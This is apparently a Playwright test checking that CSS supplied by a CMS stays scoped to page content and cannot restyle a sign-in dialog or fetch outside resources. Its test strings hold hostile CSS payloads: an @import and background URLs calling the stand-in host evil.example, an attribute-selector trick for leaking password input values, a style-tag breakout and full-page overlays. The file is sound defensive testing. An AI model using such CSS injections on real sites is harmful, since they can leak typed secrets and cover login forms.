import { expect } from '@playwright/test'
import { covers } from '#tests/support/clauses/coversInBrowser.ts'
import { test } from '../../support/pages/browserTest.ts'
import { withShop } from '../../support/pages/standInShop.ts'
import { startStandInCms } from '../../support/standIns/standInCms.ts'

/** A declaration that is visible on every element to which it applies. */
const mark = 'outline:7px solid rgb(1,2,3)!important'

/** All rules but the last one try to leave the scope, to load, or to cover the page. */
const balanced = `
  @media screen{} dialog *{${mark}}
  /*</style>*/ @import "https://evil.example/b.css";
  dialog :is(input,button),body *{${mark};position:\\66ixed;inset:0;background:url(https://evil.example/c)}
  p{--p:fixed;position:var(--p);background-image:image-set("https://evil.example/d" 1x)}
  p{${mark}}
`
const unbalanced = `
  } *{${mark}} input[value$="a"]{background:url(https://evil.example/a)}
  a{color:red}} dialog,dialog *{${mark}}
  :foo(}) x{} } dialog *{${mark}}
  @media screen{}} dialog *{${mark}}
  p{${mark}}
`

const marked = 'rgb(1, 2, 3)'

for (const [title, styles, applies] of [
  ['hostile CSS of a page changes only its own content, not the login dialog', balanced, true],
  ['CSS with unbalanced brackets changes nothing', unbalanced, false],
] as const)
  test(title, async ({ page }) => {
    covers('pages.styles.scoped', 'security.css.scope')
    const cms = await startStandInCms()
    cms.interfere = ({ path }, response) => {
      if (!path.startsWith('/api/v1/pages/')) return false
      const body = {
        title: 'Styled',
        meta: { title: 'Styled' },
        styles,
        content: '<p>Styled text</p>',
      }
      response.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'max-age=60' })
      response.end(JSON.stringify(body))
      return true
    }
    const requested: string[] = []
    page.on('request', (request) => requested.push(request.url()))
    await withShop(cms, async (url) => {
      const { port } = new URL(url)
      // The visitor's cookies, which close the popups, are of this host.
      await page.goto(`http://localhost:${port}/wishlist`)
      const outline = (selector: string) =>
        page
          .locator(selector)
          .evaluateAll((elements) =>
            elements.map((element) => getComputedStyle(element).outlineColor),
          )
      await expect(page.getByText('Styled text')).toBeVisible()
      expect((await outline('[data-piece] p')).includes(marked)).toBe(applies)
      const dialog = page.getByRole('dialog', { name: 'Sign in' })
      await page.getByRole('main').getByRole('button', { name: 'Sign in' }).click()
      await dialog.getByRole('textbox', { name: 'Password' }).fill('Secret1a')
      expect(await outline('*:not([data-piece] p)')).not.toContain(marked)
      expect(requested.filter((url) => url.includes('evil.example'))).toEqual([])
    })
  })
